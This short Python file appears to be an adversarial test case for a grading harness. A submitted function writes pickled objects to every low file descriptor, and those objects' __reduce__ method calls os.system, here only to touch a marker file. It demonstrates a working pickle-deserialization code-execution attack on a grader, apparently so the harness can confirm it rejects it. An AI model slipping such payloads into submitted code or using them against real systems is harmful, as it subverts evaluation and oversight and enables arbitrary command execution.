# Tries: to have a pickle loaded by the grader, which would run a command.
# Statuses: protocol
import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/minidl-attack-pickle",)


def centre(x):
    for number in range(64):
        for data in (pickle.dumps(Run()), pickle.dumps(Run(), 0)):
            try:
                os.write(number, data)
            except OSError:
                pass
    return x
